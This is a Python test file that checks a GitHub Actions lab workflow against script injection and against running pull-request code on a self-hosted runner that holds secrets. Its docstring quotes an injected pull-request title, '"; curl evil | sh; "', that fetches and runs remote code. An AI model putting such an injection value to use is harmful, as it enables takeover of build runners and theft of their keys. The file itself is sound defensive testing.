"""The example lab workflow must not let a pull request run code on the runner that holds the lab's keys.

Found on the old workflow: the pull request's title was pasted into a `run:` script with ${{ }} (a title such as
`"; curl evil | sh; "` runs on the lab runner), and the pull request's model was converted on the lab runner.
"""
from __future__ import annotations

import os
import re

WORKFLOW = os.path.join(os.path.dirname(__file__), "..", "examples", "ci", "edgeopt-lab.yml")


def _jobs(text: str) -> dict[str, str]:
    """{job name: its text}: the blocks indented two spaces under `jobs:`."""
    body = text.split("\njobs:\n", 1)[1]
    jobs, name = {}, None
    for line in body.splitlines():
        m = re.match(r"^  ([A-Za-z0-9_-]+):\s*$", line)
        if m:
            name = m.group(1)
            jobs[name] = ""
        elif name:
            jobs[name] += line + "\n"
    return jobs


def _run_scripts(job: str) -> list[str]:
    """The text of every `run:` script of a job (inline or block)."""
    scripts, lines = [], job.splitlines()
    for i, line in enumerate(lines):
        m = re.match(r"^(\s*)(- )?run:\s*(.*)$", line)
        if not m:
            continue
        indent = len(m.group(1)) + (2 if m.group(2) else 0)
        if m.group(3) not in ("|", ">", ""):
            scripts.append(m.group(3))
            continue
        block = []
        for nxt in lines[i + 1:]:
            if nxt.strip() and len(nxt) - len(nxt.lstrip()) <= indent:
                break
            block.append(nxt)
        scripts.append("\n".join(block))
    return scripts


def test_no_expression_is_pasted_into_a_script():
    text = open(WORKFLOW, encoding="utf-8").read()
    jobs = _jobs(text)
    scripts = [s for job in jobs.values() for s in _run_scripts(job)]
    assert len(scripts) >= 5
    pasted = [s for s in scripts if "${{" in s]
    assert pasted == [], pasted
    assert "pull_request_target" not in text.replace("not pull_request_target", "")


def test_untrusted_models_are_converted_without_lab_keys():
    jobs = _jobs(open(WORKFLOW, encoding="utf-8").read())
    lab = {n: j for n, j in jobs.items() if "self-hosted" in j}
    assert lab, "a job on the lab runner"
    for name, job in lab.items():
        scripts = "\n".join(_run_scripts(job))
        assert not re.search(r"edgeopt (convert|deploy)\b", scripts), f"{name} converts on the lab runner"
        assert "actions/checkout" not in job, f"{name} checks out pull-request code on the lab runner"
        assert re.search(r"^\s+environment:\s*\S+", job, re.M), f"{name} runs without approval"
        cond = re.search(r"^\s+if:\s*(.+)$", job, re.M)
        assert cond and "head.repo.full_name == github.repository" in cond.group(1), f"{name} runs for forks"
    others = [j for j in jobs.values() if "self-hosted" not in j]
    assert any(re.search(r"edgeopt convert\b", "\n".join(_run_scripts(j))) for j in others)
    for job in others:
        assert "EDGEOPT_INVENTORY" not in job
